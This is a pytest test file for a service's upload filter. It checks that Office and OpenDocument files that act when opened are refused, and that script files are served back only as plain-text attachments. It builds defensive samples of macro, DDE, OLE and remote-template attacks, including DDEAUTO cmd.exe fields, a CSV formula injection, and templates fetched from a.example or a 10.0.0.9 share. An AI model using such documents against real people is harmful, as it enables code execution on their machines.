"""A file that acts when it is opened gets to somebody's machine: by its content, whatever carries it, in every service.

Each was taken before: a renamed VBA project, Excel 4 sheets, Basic, templates from elsewhere, embedded objects, DDE.
What a text says is no matter: it leaves as text, so that nothing runs it.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from urllib.parse import quote

import pytest

from services.shared.files import kinds
from services.shared.files.sniffing.refusals import NotAccepted
from tests.real_input.compound import compound
from tests.real_input.files import excel_97, photo, record, word_97
from tests.support.intake import Desk, person
from tests.support.office import TestOffice
from tests.support.review import Desk as ReviewDesk

TYPES = "application/vnd.openxmlformats-officedocument"
RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PROJECT = compound({"VBA": {"dir": b"x", "_VBA_PROJECT": b"x"}, "PROJECT": b"x"})
PACKAGE = compound({"\x01Ole10Native": b"calc.exe"})


MAIN = {"word": "document", "xl": "workbook", "ppt": "presentation"}
KINDS = {"word": "wordprocessingml.document", "xl": "spreadsheetml.sheet", "ppt": "presentationml.presentation"}
SPACES = " ".join(f'xmlns:{name}="urn:{name}"' for name in ("office", "script", "table", "x", "meta", "draw", "text"))


def document(folder: str = "word", relations: str = "", body: str = "", more: dict[str, bytes] | None = None) -> bytes:
    """An office file as Office writes it, with these relations of its main part, and these parts."""
    main = MAIN[folder]
    kind = f'PartName="/{folder}/{main}.xml" ContentType="{TYPES}.{KINDS[folder]}.main+xml"'
    parts = {
        "[Content_Types].xml": f"<Types><Override {kind}/></Types>".encode(),
        f"{folder}/{main}.xml": f'<w:document xmlns:w="urn:w">{body}</w:document>'.encode(),
        f"{folder}/_rels/{main}.xml.rels": f"<Relationships>{relations}</Relationships>".encode(),
    }
    return packed(parts | (more or {}))


def packed(parts: dict[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return target.getvalue()


def relation(kind: str, target: str, *, elsewhere: bool = True) -> str:
    mode = ' TargetMode="External"' if elsewhere else ""
    return f'<Relationship Id="r1" Type="{RELATED}/{kind}" Target="{target}"{mode}/>'


def on_slide(name: str, action: str) -> bytes:
    return f'<p:sld xmlns:p="urn:p" xmlns:a="urn:a"><a:{name} action="{action}"/></p:sld>'.encode()


def field(*pieces: str) -> str:
    return "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)


def open_document(
    content: str = "", more: dict[str, bytes] | None = None, manifest: str = "", kind: str = "text"
) -> bytes:
    return packed(
        {
            "mimetype": f"application/vnd.oasis.opendocument.{kind}".encode(),
            "content.xml": f"<office:document-content {SPACES}>{content}</office:document-content>".encode(),
            "META-INF/manifest.xml": f"<manifest>{manifest}</manifest>".encode(),
        }
        | (more or {})
    )


MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
LINK = b"<externalLink><ddeLink/></externalLink>"
UTF_16 = (
    f"<?xml version='1.0' encoding='utf-16'?><Relationships>{relation('attachedTemplate', 'https://a.example/x.dotm')}"
)
ACTIVE: dict[str, Callable[[], bytes]] = {
    "renamed VBA.docx": lambda: document(more={"word/media/gambar1.png": PROJECT}),
    "VBA by its relation.docx": lambda: document(
        relations=f'<Relationship Type="{VBA}" Target="x.bin"/>', more={"word/x.bin": b"x"}
    ),
    "macro type.docx": lambda: document(
        more={"[Content_Types].xml": f'<Types><Override ContentType="{MACRO_TYPE}"/></Types>'.encode()}
    ),
    "Excel 4 sheet.xlsx": lambda: document("xl", relation("xlMacrosheet", "macrosheets/sheet1.xml", elsewhere=False)),
    "ActiveX.docx": lambda: document(relations=relation("control", "activeX/activeX1.xml", elsewhere=False)),
    "OLE package.docx": lambda: document(more={"word/embeddings/berkas.bin": PACKAGE}),
    "OLE in a slide.pptx": lambda: document("ppt", relation("oleObject", "embeddings/a.bin", elsewhere=False)),
    "program under the mouse.pptx": lambda: document(
        "ppt", more={"ppt/slides/slide1.xml": on_slide("hlinkMouseOver", "ppaction://program")}
    ),
    "macro of a button.pptx": lambda: document(
        "ppt", more={"ppt/slides/slide1.xml": on_slide("hlinkClick", "ppaction://macro?name=Jalan")}
    ),
    "template from the web.docx": lambda: document(relations=relation("attachedTemplate", "https://a.example/x.dotm")),
    "template of a share.docx": lambda: document(relations=relation("attachedTemplate", r"\\10.0.0.9\x\x.dotm")),
    "template by file.docx": lambda: document(relations=relation("attachedTemplate", "file://10.0.0.9/x/x.dotm")),
    "template in UTF-16.docx": lambda: document(
        more={"word/_rels/document.xml.rels": (UTF_16 + "</Relationships>").encode("utf-16")}
    ),
    "template by references.docx": lambda: document(
        relations=relation("attached&#84;emplate", "&#104;ttps://a.example/x.dotm")
    ),
    "frame from the web.docx": lambda: document(relations=relation("frame", "https://a.example/")),
    "picture of a share.docx": lambda: document(relations=relation("image", r"\\10.0.0.9\x\a.png")),
    "DDE.docx": lambda: document(body=field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")),
    "DDE in pieces.docx": lambda: document(body=field(" D", "DE", "AUTO cmd")),
    "DDE of a simple field.docx": lambda: document(body='<w:fldSimple w:instr="DDE cmd x"/>'),
    "DDE of a sheet.xlsx": lambda: document("xl", more={"xl/externalLinks/externalLink1.xml": LINK}),
    "macros within a chart.docx": lambda: document(
        more={"word/embeddings/buku.xlsx": document("xl", more={"xl/x.bin": PROJECT})}
    ),
    "archive within.docx": lambda: document(more={"word/embeddings/a.bin": packed({"a.exe": b"MZ"})}),
    "page taken in.docx": lambda: document(relations=relation("aFChunk", "a.mht", elsewhere=False)),
    "entities.docx": lambda: document(
        more={"word/_rels/document.xml.rels": b'<!DOCTYPE a [<!ENTITY x "https://a.example/x.dotm">]><Relationships/>'}
    ),
    "Basic.odt": lambda: open_document(
        more={"Basic/Standard/Modul1.xml": b'<script:module xmlns:script="urn:s">Shell "calc"</script:module>'}
    ),
    "Python.ods": lambda: open_document(more={"Scripts/python/a.py": b"import os"}, kind="spreadsheet"),
    "event.ods": lambda: open_document('<script:event-listener script:event-name="dom:load"/>', kind="spreadsheet"),
    "event by another prefix.odt": lambda: open_document('<x:event-listener x:href="vnd.sun.star.script:a"/>'),
    "DDE.ods": lambda: open_document('<office:dde-source office:dde-application="cmd"/>', kind="spreadsheet"),
    "template.odt": lambda: open_document('<meta:template x:href="https://a.example/x.ott"/>'),
    "object from the web.odt": lambda: open_document('<draw:object x:href="https://a.example/x"/>'),
    "OLE.odp": lambda: open_document(more={"Object 1": PACKAGE}, kind="presentation"),
    "locked.odt": lambda: open_document(manifest="<encryption-data/>"),
    "VBA.doc": lambda: word_97(Macros={"VBA": {"dir": b"x"}}),
    "object.doc": lambda: word_97(ObjectPool={"_1": {"\x01Ole10Native": b"x"}}),
    "DDE.doc": lambda: word_97(more=b"\x13 DDEAUTO c:\\\\cmd.exe \x14\x15"),
    "DDE in UTF-16.doc": lambda: word_97(more="\x13 DDEAUTO cmd".encode("utf-16-le")),
    "template.doc": lambda: word_97(**{"0Table": "https://a.example/x.dotm".encode("utf-16-le")}),
    "VBA.xls": lambda: excel_97(_VBA_PROJECT_CUR={"VBA": {"dir": b"x"}}),
    "Excel 4.xls": lambda: excel_97(sheet=1),
    "DDE.xls": lambda: excel_97(record(0x1AE, b"\1\0\7\0\0cmd\x03/c calc")),
    "object.xls": lambda: excel_97(MBD0001={"\x01Ole": b"x"}),
    "locked.xls": lambda: excel_97(record(0x2F, bytes(6))),
    "macros.ppt": lambda: compound({"PowerPoint Document": b"\x0f\0\xff\3\x14\0\0\0" + bytes(20)}),
    "object.ppt": lambda: compound({"PowerPoint Document": b"\x10\0\x11\x10" + bytes(20)}),
}  # fmt: skip
QUIET: dict[str, Callable[[], bytes]] = {  # what people really write
    "link.docx": lambda: document(relations=relation("hyperlink", "https://kumelembuai.example/")),
    "template of the own disk.docx": lambda: document(
        relations=relation("attachedTemplate", "file:///C:\\Users\\Budi\\Surat.dotx")
    ),
    "picture of the web.docx": lambda: document(relations=relation("image", "https://a.example/a.png")),
    "other workbook.xlsx": lambda: document("xl", relation("externalLinkPath", "file:///\\\\SERVER\\anggaran.xlsx")),
    "next slide.pptx": lambda: document(
        "ppt", more={"ppt/slides/slide1.xml": on_slide("hlinkClick", "ppaction://hlinkshowjump?jump=nextslide")}
    ),
    "chart.docx": lambda: document(more={"word/embeddings/buku.xlsx": document("xl")}),
    "page number.docx": lambda: document(body=field(" PAGE ") + "<w:t>DDE dan makro dibahas di sini</w:t>"),
    "plain.odt": lambda: open_document("<office:scripts/><draw:object x:href='./Object 1'/>"),
    "empty library.odt": lambda: open_document(
        more={"Basic/Standard/script-lb.xml": b'<library:library xmlns:library="urn:l" library:name="Standard"/>'}
    ),
    "plain.ods": lambda: open_document(kind="spreadsheet"),
    "plain.odp": lambda: open_document(kind="presentation"),
    "plain.doc": lambda: word_97(ObjectPool={}, more=b"DDE dibahas di sini"),
    "plain.xls": excel_97,
}
SCRIPTS = {
    "lihat.bat": b"@echo off\r\nstart calc.exe\r\n",
    "lihat.cmd": b"start calc.exe\r\n",
    "lihat.vbs": b'CreateObject("WScript.Shell").Run "calc"\r\n',
    "lihat.ps1": b"Start-Process calc\r\n",
    "lihat.js": b'new ActiveXObject("WScript.Shell").Run("calc")\r\n',
    "lihat.url": b"[InternetShortcut]\r\nURL=file://10.0.0.9/x/a.exe\r\n",
    "lihat.reg": b"Windows Registry Editor Version 5.00\r\n",
    "lihat.csv": b"=cmd|'/c calc'!A0,1\r\n",
    "surat.doc": b"Hanya teks, tetapi Word akan membukanya.\r\n",
}


@pytest.mark.parametrize("name", ACTIVE)
def test_what_acts_when_it_is_opened_is_refused_with_the_way_out(name: str) -> None:
    with pytest.raises(NotAccepted) as refused:
        kinds.sniff(io.BytesIO(ACTIVE[name]()))
    said = refused.value.fields["file"][0]
    assert ("tanpa sandi" if "locked" in name else "saat dibuka") in said, said
    assert "PDF" in said


@pytest.mark.parametrize("name", QUIET)
def test_what_people_write_is_kept(name: str) -> None:
    assert kinds.sniff(io.BytesIO(QUIET[name]())) in kinds.ALLOWED


def test_it_is_one_policy_at_the_desk_and_in_review(office: TestOffice) -> None:
    desk, data = Desk(office), ACTIVE["renamed VBA.docx"]()
    assert "makro" in desk.upload(data, "surat.docx", expect=415)["errors"]["file"][0]
    assert desk.now()["evidence"] == []
    review = ReviewDesk(office)
    case_no = review.case("team_assigned")
    path, headers = f"/review/api/cases/{case_no}/files?role=visit", {"X-File-Name": "surat.docx"}
    answer = review.person("tim1").post(path, data=data, content_type="application/octet-stream", headers=headers)
    assert answer.status_code == 415, answer.text
    assert "makro" in answer.text


def test_a_script_is_kept_as_text_and_leaves_as_text(office: TestOffice) -> None:
    desk = Desk(office)
    for name, data in SCRIPTS.items():
        row = desk.upload(data, name)
        assert (row["name"], row["content_type"]) == (name, "text/plain")
        for path in (row["url"], f"{row['url']}?download=1", f"{desk.path}/evidence/{row['id']}"):
            answer = person(office).get(path)
            assert answer.data == data
            assert answer.headers["Content-Disposition"].startswith("attachment")
            assert answer.headers["Content-Disposition"].endswith(f"''{quote(name)}.txt")
            assert f'filename="{name}.txt"' in answer.headers["Content-Disposition"]
    row = desk.upload(photo("JPEG", comment=b"<script>alert(1)</script>"), "foto.hta")
    assert "foto.hta.jpg" in person(office).get(row["url"]).headers["Content-Disposition"]
